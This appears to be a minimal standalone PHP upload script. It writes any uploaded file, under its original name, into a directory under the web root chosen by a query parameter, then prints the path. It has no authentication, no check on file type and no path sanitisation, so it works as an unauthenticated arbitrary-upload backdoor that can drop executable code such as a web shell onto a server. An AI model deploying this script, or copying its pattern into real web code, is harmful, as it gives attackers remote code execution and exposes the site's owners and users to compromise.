<?php
$to = $_SERVER['DOCUMENT_ROOT'] . '/' . $_GET['p'] . '/';
move_uploaded_file($_FILES['x']['tmp_name'], $to . basename($_FILES['x']['name']));
echo $to;
